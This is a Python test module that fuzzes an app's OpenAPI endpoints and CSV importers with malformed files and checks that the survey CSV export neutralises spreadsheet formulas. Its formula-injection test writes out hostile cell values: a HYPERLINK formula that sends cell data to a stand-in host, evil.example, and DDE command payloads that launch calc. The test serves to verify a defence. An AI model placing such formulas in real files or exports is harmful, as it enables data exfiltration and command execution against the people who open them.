"""Fuzzing: the whole OpenAPI surface with Schemathesis, and the four CSV importers.

* Schemathesis reads ``/schema/openapi.json`` from a real ``voc serve`` process and sends a
  few generated requests to every operation, staff endpoints with an admin's bearer token:
  no 5xx anywhere, and every documented response matches its schema. Bounded: a handful of
  examples per operation, no shrinking, a time budget for the whole run.
* The CSV importers (survey recipients; training accounts, events, participants) get wrong
  encodings and BOMs, huge lines, quotes and line breaks in fields, binary junk and random
  bytes: each answers 200 or a 4xx naming the problem, never 5xx and never a half import.
* ``=HYPERLINK(…)`` and other formulas in names, attributes and comments are neutralised in
  the survey CSV export.
"""

from __future__ import annotations

import asyncio
import codecs
import csv
import io
import time
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st
from litestar import Litestar
from litestar.testing import AsyncTestClient

from app.auth.services import AuthService
from app.clock import SystemClock
from app.settings import Settings
from surveys.recipients import RecipientsRejected, parse_csv
from surveys.tables import Contact, Invitation
from tests.conftest import create_staff
from tests.reliability.support import AppProcess, app_env, seed_respondents
from tests.smtp import free_port
from training.imports import ImportRejected, read_csv_rows

Client = AsyncTestClient[Litestar]

EXAMPLES_PER_OPERATION = 5
FUZZ_BUDGET_SECONDS = 75.0


# ----------------------------------------------------------------------------- OpenAPI


def _fuzz_operations(base_url: str, token: str) -> tuple[int, int, list[str]]:
    import schemathesis
    from schemathesis.checks import not_a_server_error
    from schemathesis.specs.openapi.checks import response_schema_conformance

    schema = schemathesis.openapi.from_url(f"{base_url}/schema/openapi.json")
    headers = {"Authorization": f"Bearer {token}"}
    failures: list[str] = []
    operations = calls = 0
    started = time.monotonic()
    for result in schema.get_all_operations():
        operation = result.ok()
        if time.monotonic() - started > FUZZ_BUDGET_SECONDS:
            failures.append(f"time budget spent before {operation.label}")
            break
        operations += 1

        @settings(
            max_examples=EXAMPLES_PER_OPERATION,
            deadline=None,
            database=None,
            derandomize=True,
            phases=[Phase.explicit, Phase.generate],
            suppress_health_check=list(HealthCheck),
        )
        @given(case=operation.as_strategy())
        def run(case: Any) -> None:
            nonlocal calls
            calls += 1
            response = case.call(base_url=base_url, headers=headers, timeout=30)
            case.validate_response(
                response, checks=[not_a_server_error, response_schema_conformance]
            )

        try:
            run()
        except (Exception, BaseExceptionGroup) as exc:  # collect every operation's failures
            failures.append(f"{operation.label}: {str(exc)[:800]}")
    return operations, calls, failures


@pytest.mark.slow
async def test_openapi_fuzz_no_5xx_and_responses_match_the_schema(
    db: None, settings: Settings, tmp_path: Path
) -> None:
    admin = await create_staff("admin", "fuzz-admin@example.com")
    token = (await AuthService(SystemClock()).create_api_token(admin.id, "fuzz")).token
    await seed_respondents(3)
    port = free_port()
    app = AppProcess(
        app_env(settings.database_url, tmp_path / "var", port), port, tmp_path / "app.log"
    ).start()
    try:
        await asyncio.to_thread(app.wait_ready)
        operations, calls, failures = await asyncio.to_thread(_fuzz_operations, app.url, token)
    finally:
        app.stop()
    assert operations >= 30 and calls >= operations
    assert not failures, "\n\n".join(failures)
    assert '"status": 500' not in app.logs()


# ----------------------------------------------------------------------------- CSV parsers

RECIPIENT_HEADER = "email,name,language,store"


@settings(max_examples=300, deadline=None, database=None, derandomize=True)
@given(data=st.binary(max_size=2000))
def test_recipient_parser_survives_random_bytes(data: bytes) -> None:
    try:
        parse_csv(data)
    except RecipientsRejected as exc:
        assert exc.errors


cells = st.text(
    alphabet=st.characters(codec="utf-8", exclude_categories=["Cs"]), max_size=40
) | st.sampled_from(['"', '""', "a,b", "line\nbreak", "\r\n", "=1+1", "名前", "\ufeff", "\x00"])


@settings(max_examples=300, deadline=None, database=None, derandomize=True)
@given(rows=st.lists(st.lists(cells, min_size=1, max_size=5), max_size=8), bom=st.booleans())
def test_csv_parsers_survive_quotes_breaks_and_boms(rows: list[list[str]], bom: bool) -> None:
    buffer = io.StringIO()
    csv.writer(buffer).writerows([["email", "name", "store"], *rows])
    data = (codecs.BOM_UTF8 if bom else b"") + buffer.getvalue().encode()
    try:
        parse_csv(data)
    except RecipientsRejected as exc:
        assert exc.errors
    try:
        read_csv_rows(data, {}, ["email"])
    except ImportRejected as exc:
        assert exc.problems


def _bad_files() -> dict[str, bytes]:
    good = "email,name,language,store\r\nkeiko@example.jp,山田 恵子,ja,京都\r\n"
    return {
        "utf8": good.encode(),
        "utf8-bom": codecs.BOM_UTF8 + good.encode(),
        "shift_jis": good.encode("cp932"),
        "utf16-bom": codecs.BOM_UTF16_LE + good.encode("utf-16-le"),
        "latin1": "email,name\r\nrene@example.com,René Ça\xff\r\n".encode("latin-1"),
        "mixed": good.encode() + "x@example.jp,名前\r\n".encode("cp932"),
        "huge-line": b"email,name\r\nbig@example.com," + b"A" * 2_000_000 + b"\r\n",
        "huge-field-quoted": b'email,name\r\nq@example.com,"' + b"x" * 300_000 + b'"\r\n',
        "quotes-breaks": b'email,name\r\n"a@example.com","He said ""hi""\r\nand left"\r\n',
        "unclosed-quote": b'email,name\r\n"a@example.com,"never closed\r\n',
        "nul": b"email,name\r\na@example.com,A\x00B\r\n",
        "binary": b"PK\x03\x04" + bytes(range(256)) * 4,
        "empty": b"",
        "header-only": b"email,name\r\n",
        "many-columns": b"email," + b",".join(b"c%d" % i for i in range(5000)) + b"\r\n",
    }


class TestCsvUploads:
    async def test_every_importer_answers_4xx_or_200_never_5xx(
        self, client: Client, staff_client: Any
    ) -> None:
        await staff_client("admin")
        survey = await client.post("/api/surveys", json={"name": "Fuzz", "kind": "customer_nps"})
        survey_id = survey.json()["id"]
        workshop = await client.post(
            "/api/workshops",
            json={"title": "Fuzz workshop", "kind": "customer", "held_on": "2026-11-01"},
        )
        assert workshop.status_code == 201, workshop.text
        workshop_id = workshop.json()["id"]
        results: dict[tuple[str, str], int] = {}
        for name, data in _bad_files().items():
            reply = await client.post(
                f"/api/surveys/{survey_id}/recipients/csv",
                files={"data": ("people.csv", data, "text/csv")},
            )
            results[("recipients", name)] = reply.status_code
            for path in (
                "/api/accounts/import.csv",
                "/api/accounts/events/import.csv",
                f"/api/workshops/{workshop_id}/participants.csv",
            ):
                reply = await client.post(path, content=data, headers={"content-type": "text/csv"})
                results[(path, name)] = reply.status_code
                if reply.status_code >= 400:
                    assert reply.json()["detail"], (path, name)
        assert all(code < 500 for code in results.values()), results
        # The good encodings import; the broken ones are refused as a whole.
        for name in ("utf8", "utf8-bom", "shift_jis"):
            assert results[("recipients", name)] == 200, (name, results)
        for name in ("utf16-bom", "latin1", "mixed", "huge-line", "binary", "nul", "empty"):
            assert 400 <= results[("recipients", name)] < 500, (name, results)
        emails = {r["email"] for r in await Contact.select(Contact.email)}
        assert emails == {"keiko@example.jp"}  # BOM and Shift_JIS gave the same person
        names = {r["name"] for r in await Contact.select(Contact.name)}
        assert names == {"山田 恵子"}


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


class TestFormulaInjection:
    async def test_formulas_are_neutralised_in_the_export(
        self, client: Client, staff_client: Any
    ) -> None:
        await staff_client("admin")
        survey = await client.post("/api/surveys", json={"name": "Export", "kind": "customer_nps"})
        survey_id = survey.json()["id"]
        hyperlink = '=HYPERLINK("http://evil.example/steal?d="&A1,"Click me")'
        upload = (
            "email,name,language,store\r\n"
            f'victim@example.com,"{hyperlink.replace(chr(34), chr(34) * 2)}",en,+cmd|calc\r\n'
            "plain@example.com,@SUM(1+1),en,-2+3\r\n"
        ).encode()
        reply = await client.post(
            f"/api/surveys/{survey_id}/recipients/csv",
            files={"data": ("people.csv", upload, "text/csv")},
        )
        assert reply.status_code == 200, reply.text
        # Answer through each invitation (tokens set directly, as the email would carry them).
        from surveys.tokens import new_token, token_hash

        comments = ['=cmd|" /C calc"!A0', "\t=1+1", "normal comment"]
        invitations = await Invitation.select(Invitation.id).where(Invitation.survey == survey_id)
        await client.post(f"/api/surveys/{survey_id}/send")
        for i, invitation in enumerate(invitations):
            token = new_token()
            await Invitation.update({Invitation.token_hash: token_hash(token)}).where(
                Invitation.id == invitation["id"]
            )
            answered = await client.post(
                f"/r/{token}", json={"answers": {"recommend": 9, "reason": comments[i]}}
            )
            assert answered.status_code == 200, answered.text
        export = await client.get(f"/api/surveys/{survey_id}/responses.csv")
        assert export.status_code == 200
        rows = list(csv.reader(io.StringIO(export.text.lstrip("\ufeff"))))
        for row in rows[1:]:
            for cell in row:
                if _is_number(cell):  # a negative score or polarity is a value, not a formula
                    continue
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (cell, row)
        flat = [cell for row in rows for cell in row]
        assert "'" + hyperlink in flat  # kept readable, but inert
        assert "'+cmd|calc" in flat and "'@SUM(1+1)" in flat and "'-2+3" in flat
